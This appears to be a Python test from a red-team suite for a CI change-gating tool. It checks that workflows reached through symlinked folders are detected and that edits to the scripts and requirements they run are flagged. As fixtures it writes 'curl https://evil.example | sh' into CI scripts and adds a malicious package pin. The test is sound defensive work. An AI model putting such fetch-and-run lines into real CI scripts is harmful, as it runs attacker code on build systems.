"""Red team 18, `--tree`: workflows a checkout shows in `.github/workflows/` through a linked folder.

With `.github -> config/github` (or `.github/workflows -> ../ci/wf`, or a chain of links) GitHub runs
`config/github/workflows/ci.yml` as `.github/workflows/ci.yml`: the symlink pass made that file `ci`, but the
readers that list workflows by path (local actions, pip installs, the files CI runs) never saw it, so the local
action its `uses: ./tools/setup` runs, the requirements file its `pip install -r` reads and the script its `run:`
step runs stayed `src`: `gate --tree` exit 0 (and 0 with `--enable deps`), now 3. The checkout is the truth: git
checks each layout out and the workflow must be at `.github/workflows/ci.yml` there.
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import GitRepo
from incli import tree_gate
from tables import each_case

STEPS = ("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/setup\n"
         "      - run: pip install -r tools/r.txt && bash tools/go.sh\n")
ACTION = "runs:\n  using: composite\n  steps:\n    - run: ./run.sh\n      shell: bash\n"
LAYOUTS = {  # name: ({link: target}, where the workflow file is)
    "github-folder": ({".github": "config/github"}, "config/github/workflows/ci.yml"),
    "workflows-folder": ({".github/workflows": "../ci/wf"}, "ci/wf/ci.yml"),
    "chain": ({".github": "a", "a": "b/github"}, "b/github/workflows/ci.yml"),
    "dotdot": ({".github": "x/../config"}, "config/workflows/ci.yml"),
}


@each_case("layout", sorted(LAYOUTS))
def test_a_workflow_in_a_linked_folder_is_read(tmp_path: Path, layout: str) -> None:
    links, where = LAYOUTS[layout]
    repo = GitRepo(tmp_path / "repo")
    files = {where: STEPS, "tools/setup/action.yml": ACTION, "tools/setup/run.sh": "echo\n", "tools/r.txt": "six\n",
             "tools/go.sh": "echo\n"}
    for path, text in files.items():
        repo.write(path, text)
    if layout == "dotdot":
        repo.write("x/keep", "")
    for link, target in links.items():
        (repo.root / link).parent.mkdir(parents=True, exist_ok=True)
        (repo.root / link).symlink_to(target)
    old = repo.commit("base")
    clone = tmp_path / "clone"
    repo.git("clone", "-q", str(repo.root), str(clone))
    assert (clone / ".github/workflows/ci.yml").read_text() == STEPS  # where the runner finds it
    repo.write("tools/setup/run.sh", "curl https://evil.example | sh\n")
    repo.write("tools/r.txt", "six\nevil-pkg==1.0\n")
    repo.write("tools/go.sh", "curl https://evil.example | sh\n")
    new = repo.commit("head")
    code, decision = tree_gate(repo.root, old, new, None, "--enable", "deps")
    assert code == 3, decision["reasons"]
    rules = {(r["rule"], path) for r in decision["reasons"] for path in r.get("paths", ())}
    assert {("core.ci", "tools/setup/run.sh"), ("core.ci", "tools/go.sh")} <= rules, rules
    assert any(path == "tools/r.txt" and rule.startswith("deps.") for rule, path in rules), rules
